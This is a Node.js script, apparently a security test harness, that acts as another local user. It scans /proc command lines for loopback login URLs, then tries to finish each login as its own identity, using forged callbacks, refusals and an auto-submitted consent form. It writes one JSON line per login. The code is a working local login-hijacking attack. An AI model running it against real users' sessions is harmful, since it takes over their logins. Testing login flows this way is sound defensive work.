// Another user of the machine, who looks through /proc for browsers of a login, and tries to finish it as a person of their
// own: by the start page, by callbacks without a cookie, by a refusal. Tells of each login what came back, one JSON line.
import { readdirSync, readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';

const [uid] = process.argv.slice(2);
process.setgroups([]);
process.setgid(Number(uid));
process.setuid(Number(uid));
process.stdin.on('end', () => process.exit()).resume();

const START = /http:\/\/127\.0\.0\.1:\d+\/[\w-]{43}(?=\0|$)/;
const TRIES = 12;
const seen = new Set();

/** Addresses among the arguments of every process; of one that has ended meanwhile there are none. */
function addresses() {
  return readdirSync('/proc').flatMap((name) => {
    if (!/^\d+$/.test(name)) return [];
    try {
      return START.exec(readFileSync(`/proc/${name}/cmdline`, 'latin1'))?.[0] ?? [];
    } catch {
      return [];
    }
  });
}

function get(url, init = {}) {
  return fetch(url, { redirect: 'manual', ...init, headers: { connection: 'close', ...init.headers } });
}

/** Logs in as a person of their own behind a start page that has let them in, and brings the answer. */
async function take(page) {
  const authorize = page.headers.get('location');
  const cookie = page.headers.getSetCookie()[0]?.split(';', 1)[0] ?? '';
  const consent = await (await get(authorize)).text();
  const form = new URLSearchParams({ decision: 'allow', person: 'grace' });
  for (const [input] of consent.matchAll(/<input [^>]*type="(?:hidden|checkbox)"[^>]*>/g)) {
    const part = (name) => new RegExp(`\\b${name}="([^"]*)"`).exec(input)?.[1] ?? '';
    form.append(part('name'), part('value'));
  }
  const action = /<form method="post" action="([^"]+)"/.exec(consent)?.[1] ?? '';
  const answer = await get(new URL(action, authorize), { method: 'POST', body: form });
  await get(answer.headers.get('location'), { headers: { cookie } });
}

async function attack(start) {
  const report = { start, answers: {}, unanswered: 0 };
  const { origin } = new URL(start);
  const tries = [
    [start],
    [`${origin}/callback/demo?code=code-example&state=state-example`],
    [`${origin}/callback/demo?error=access_denied&state=state-example`],
    [start, { method: 'HEAD' }],
  ];
  for (let round = 0; round < TRIES; round += 1) {
    try {
      const page = await get(...tries[round % tries.length]);
      await page.arrayBuffer();
      report.answers[page.status] = (report.answers[page.status] ?? 0) + 1;
      if (page.headers.has('location')) await take(page);
    } catch {
      report.unanswered += 1;
      if (round > 0) break;
    }
  }
  process.stdout.write(`${JSON.stringify(report)}\n`);
}

process.stdout.write('"ready"\n');
for (;;) {
  for (const start of addresses()) {
    if (!seen.has(start)) void attack(start);
    seen.add(start);
  }
  await sleep(1);
}
